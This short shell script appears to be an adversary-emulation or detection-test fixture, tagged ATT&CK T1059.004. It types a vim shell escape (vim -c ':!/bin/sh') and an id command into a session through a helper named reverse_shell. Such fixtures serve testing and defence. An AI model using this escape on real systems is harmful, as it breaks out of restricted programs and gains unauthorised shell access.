# vim runs sh with a shell escape from its command line.
# ATT&CK: T1059.004
. ./session.sh
reverse_shell <<'TYPED'
vim -c ':!/bin/sh' -c ':qa!'
id
exit

exit
TYPED
